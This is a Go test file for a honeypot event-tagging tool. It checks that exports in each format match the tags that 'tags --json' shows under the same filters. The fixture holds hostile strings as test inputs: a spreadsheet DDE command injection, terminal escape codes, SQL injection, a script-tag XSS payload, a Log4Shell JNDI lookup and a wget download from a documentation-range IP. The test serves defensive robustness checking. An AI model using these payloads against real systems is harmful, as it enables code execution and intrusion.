package main

import (
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/ttpcron/ttpcron/export"
	"github.com/ttpcron/ttpcron/export/exporttest"
)

// hostileTexts are texts that attackers write, escaped as JSON has them where they are not
// ASCII or not UTF-8.
var hostileTexts = []string{
	"plain", `=cmd|' /C calc'!A0`, `\u001b]0;owned\u0007\u001b[2J\u009b31m`, `\u202egpj.exe\u2066`, `\"quoted\" and 'so'; DROP TABLE ttp_tag; --`, `line\nfeed\r\nand\ttab`,
	`\u0000 nul \u0000`, "\xff\xfe\xc3(", `\udcff \ud83d alone \ud83d\ude00`, `</script><script>alert(1)</script>`, `{{7*7}}${jndi:ldap://203.0.113.9/a}`, `\u2028\u2029 |pipe\\back`, `+1-1@SUM(A1)`,
}

// hostileEvents has the texts in every member that an attacker, or any sensor, can set.
func hostileEvents() string {
	var b strings.Builder
	for i := range 6 * len(hostileTexts) {
		text := hostileTexts[i%len(hostileTexts)]
		who := fmt.Sprintf(`"attacker_ip":%q,`, []string{"203.0.113.7", "203.0.113.8", "2001:db8::7", "198.51.100.1"}[i%4])
		if i%7 == 6 {
			who = fmt.Sprintf(`"identity_uuid":"5f1a6a80-0000-5000-8000-%012d",`, i%3)
		}
		session := fmt.Sprintf(`"session_id":"s%d",`, i%5)
		switch i % 6 {
		case 4:
			session = fmt.Sprintf(`"session_id":"%s",`, text)
		case 5:
			session = ""
		}
		sensor := []string{"", `"decky_id":"pot-1",`, `"decky_id":"` + text + `",`}[i%3]
		kind, payload := "command", `{"command_text":"uname -a; `+text+`"}`
		switch i % 4 {
		case 1:
			payload = `{"command_text":"wget http://203.0.113.9/` + text + `","password":"` + text + `"}`
		case 3:
			kind, payload = "canary_fingerprint", `{"user_agent":"curl/8.5.0 `+text+`"}`
		}
		fmt.Fprintf(&b, `{"source_kind":"%s","source_id":"%d %s","time":"2026-05-%02dT%02d:59:59.999999Z",%s%s%s"payload":%s}`+"\n", kind, i, text, 4+i/24, i%24, who, session, sensor, payload)
	}
	return b.String()
}

// selections are flags that tags and export share.
var selections = []string{
	"", "--session s1", "--session s0 --min-level informational", "--technique T1105", "--technique T1059.004", "--attacker 203.0.113.0/29", "--attacker 2001:db8::7",
	"--since 2026-05-05 --until 2026-05-06", "--since 2026-05-04T12:30:00Z", "--min-level high", "--min-level low", "--sensor pot-1", "--tactic discovery --level informational,low", "--until 2020-01-01",
}

// TestExportedTags: an export in any format has exactly the tags that tags --json shows
// under the same flags, and a daemon changes not a byte of it.
func TestExportedTags(t *testing.T) {
	n := newNode(t, rarely)
	n.Write("hostile.jsonl", hostileEvents())
	n.Env = append(n.Env, "TTPCRON_INPUT=")
	for _, args := range [][]string{{"import", n.Path("hostile.jsonl")}, {"run-once", "--since-days", "3650"}} {
		if code, out, errs := invoke(t, n.Env, args...); code != exitDone {
			t.Fatalf("%v: exit %d: %s%s", args, code, out, errs)
		}
	}
	shown := map[string][]shownUUID{}
	for _, flags := range selections {
		shown[flags] = n.shown(t, flags)
	}
	alone := map[string]string{}
	for _, f := range export.Formats() {
		t.Run(f.Name, func(t *testing.T) {
			read, known := exporttest.Readers[f.Name]
			if !known {
				t.Fatalf("exporttest.Readers has no entry for %s: nothing reads what it writes", f.Name)
			}
			compared := 0
			for _, flags := range selections {
				if f.OneSession && !strings.Contains(flags, "--session") {
					if code, _, errs := invoke(t, n.Env, strings.Fields("export --format "+f.Name+" "+flags)...); code != exitUsage || !strings.Contains(errs, "--session") {
						t.Errorf("without a session: exit %d: %s", code, errs)
					}
					continue
				}
				want := uuidsFor(f.Name, shown[flags])
				compared += len(want)
				what, stream, path := n.exported(t, f, flags)
				alone[f.Name+flags] = what
				if read == nil {
					if got := exporttest.Scores(t, stream); got != len(want) {
						t.Errorf("%q: scores add up to %d, and there are %d tags", flags, got, len(want))
					}
					continue
				}
				got := read(t, stream, path)
				slices.Sort(got)
				if !slices.Equal(got, want) {
					t.Errorf("%q: %d tags are there, want %d, or others", flags, len(got), len(want))
				}
			}
			if compared == 0 {
				t.Error("no selection has a tag")
			}
		})
	}
	if t.Failed() {
		return
	}
	n.serving()
	for _, f := range export.Formats() {
		for _, flags := range []string{"", "--session s1", "--attacker 203.0.113.0/29"} {
			if want, ok := alone[f.Name+flags]; ok {
				if got, _, _ := n.exported(t, f, flags); got != want {
					t.Errorf("%s %q: a daemon changes what is exported", f.Name, flags)
				}
			}
		}
	}
	n.stop()
}

// shownUUID is what tags --json shows of a tag, as far as it matters here.
type shownUUID struct {
	UUID     string
	Attacker string `json:"attacker_uuid"`
}

func (n *node) shown(t *testing.T, flags string) (tags []shownUUID) {
	t.Helper()
	code, out, errs := invoke(t, n.Env, strings.Fields("tags --json "+flags)...)
	if code != exitDone {
		t.Fatalf("tags %s: exit %d: %s", flags, code, errs)
	}
	for line := range strings.Lines(out) {
		var tag shownUUID
		if err := json.Unmarshal([]byte(line), &tag); err != nil {
			t.Fatal(err)
		}
		tags = append(tags, tag)
	}
	return tags
}

// uuidsFor are the tags that a format can have, sorted: DECNET has a place only for tags
// of attackers.
func uuidsFor(format string, tags []shownUUID) (uuids []string) {
	for _, tag := range tags {
		if format != "decnet" || tag.Attacker != "" {
			uuids = append(uuids, tag.UUID)
		}
	}
	slices.Sort(uuids)
	return uuids
}

// exported exports, and returns all written bytes, by file name, with the stream and the
// destination.
func (n *node) exported(t *testing.T, f export.Format, flags string) (all string, stream []byte, path string) {
	t.Helper()
	args := strings.Fields("export --format " + f.Name + " " + flags)
	if f.To != export.Stream {
		path = n.Path("exported")
		if err := os.RemoveAll(path); err != nil {
			t.Fatal(err)
		}
		args = append(args, "--output", path)
	}
	code, out, errs := invoke(t, n.Env, args...)
	if code != exitDone || raw(errs) {
		t.Fatalf("%v: exit %d: %q", args, code, errs)
	}
	if f.To == export.Stream {
		if raw(strings.ReplaceAll(out, "\r\n", "\n")) {
			t.Errorf("%v: raw bytes", args)
		}
		return out, []byte(out), ""
	}
	return tree(t, path), nil, path
}

// tree is the content of a file or folder, with names.
func tree(t *testing.T, path string) string {
	t.Helper()
	var all strings.Builder
	err := filepath.WalkDir(path, func(at string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(at)
		fmt.Fprintf(&all, "%s: %d bytes\n%s\n", strings.TrimPrefix(at, path), len(b), b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return all.String()
}
